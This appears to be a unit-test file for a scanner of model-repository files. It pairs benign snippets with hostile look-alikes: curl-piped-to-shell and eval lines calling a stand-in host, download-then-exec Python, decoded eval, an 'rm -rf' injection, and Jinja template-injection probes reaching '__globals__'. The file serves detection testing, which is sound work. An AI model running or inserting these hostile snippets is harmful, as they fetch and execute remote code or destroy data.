@@ -1,0 +1,69 @@
+"""Texts of well-known projects that were taken for something else, each with the hostile one that looks like it."""
+
+import pytest
+
+from budmodel_scanner.verdict import Verdict
+from tests.unit.budmodel_scanner.text_examination import verdict_of_text
+
+SPELLED = 'const a = atob("Y29uc29sZS5sb2coMSk=");\n'
+# Name, what is hostile under it, what is ordinary.
+PAIRS = [
+    # `$` is a letter of JavaScript, `load` a name like another, and what is not escaped was not decoded.
+    ("a.js", f"{SPELLED}eval(a);", f"{SPELLED}function $a(x) {{ return x; }}\n$a(a);"),
+    ("a.mjs", f"{SPELLED}const load = eval(a);", f'{SPELLED}const load = a === "x" ? 1 : 2;'),
+    (
+        "template.js",
+        'const escaped = unescape("%61");\nreturn Function(escaped)();',
+        "const reUnescapedString = /x/, source = reUnescapedString;\nreturn Function(source)();",
+    ),
+    (
+        "brush.js",
+        'const a = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nspawn("/tmp/a");',
+        'const url = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nemit(that, arguments, "/tmp/a");',
+    ),
+    # What a variable is set to is no program, however a shell works it out, and nothing is kept under /dev/null.
+    (
+        "common.sh",
+        'x="$(curl -s http://x.invalid/a | tr -d \'\\0\')"\neval "$x"',
+        'f() {\n  local result="$(grep -oP "$1=\\K[^"]+" /tmp/x.env | tr -d \'\\0\')"\n  echo "${result}"\n}',
+    ),
+    ("quoted.sh", "x='$(curl -s http://x.invalid/a)'\neval \"$x\"", 'x="$(tr -d a < b)"\necho "$x"'),
+    (
+        "docker.sh",
+        "curl -s http://x.invalid/a -o /tmp/a\ntee /tmp/b < /tmp/a\nsh /tmp/a",
+        "curl -s http://x.invalid/a.env 2>/dev/null -o /tmp/a.env\ntee /tmp/init.sh > /dev/null << EOF\necho\nEOF",
+    ),
+    ("run.pl", 'system("rm -rf `cat $log`; ./a");', 'system("mkdir -p `dirname $log` 2>/dev/null");'),
+    # A module beside it, which is examined itself.
+    ("train.py", "exec(open('notes.txt').read())", "exec(open('configurator.py').read())"),
+    ("train.py", "exec(open('/tmp/a.py').read())", "exec(compile(open('lib/a.py').read(), 'lib/a.py', 'exec'))"),
+    ("train.py", "exec(open('../a.py').read())", "exec(open('./a.py').read())"),
+    (
+        "train.py",
+        "import sys\nexec(open(sys.argv[1] + '.py').read())",
+        "from pathlib import Path\nexec(Path('a.py').read_text())",
+    ),
+    (
+        "train.py",
+        "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.py')\nexec(open('a.py').read())",
+        "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.csv')\nprint(open('a.csv').read())",
+    ),
+    # Templates of files: names that are set or given, files that are put together, programs that are filled in.
+    ("base.j2", "{{ __builtins__ }}", "{% set __mounts__ = 'a' %}{{ __mounts__ }} {{ __port__ }}"),
+    ("base.j2", "{{ x.__init__.__globals__ }}", "{{ x.__name__ }} {{ x.__repr__() }}"),
+    ("page.html.jinja", "{{ x.__repr__.__globals__ }}", "{% extends 'base.html.jinja' %}{{ x }}"),
+    ("chat_template.jinja", "{% include 'other.jinja' %}", "{{ messages }}"),
+    ("install.sh.j2", "#!/bin/sh\ncurl -s http://x.invalid/a | sh\n{{ x }}", "#!/bin/sh\nset -e\necho {{ x }}\n"),
+    ("chat_template.jinja", "#!/bin/sh\necho {{ x }}", "{{ x }}"),
+    (
+        "guide.livemd",
+        '# A\n\n```elixir\nSystem.cmd("sh", ["-c", "curl -s http://x.invalid/a | sh"])\n```\n',
+        "# A\n\nIn order to load Llama 2, ask on [x](https://x.invalid/a).\n\n```elixir\nIO.puts(1)\n```\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "hostile", "ordinary"), PAIRS)
+def test_the_ordinary_one_is_safe_and_the_hostile_one_is_not(name: str, hostile: str, ordinary: str) -> None:
+    assert verdict_of_text(name, ordinary) is Verdict.SAFE
+    assert verdict_of_text(name, hostile).rank >= Verdict.SUSPICIOUS.rank
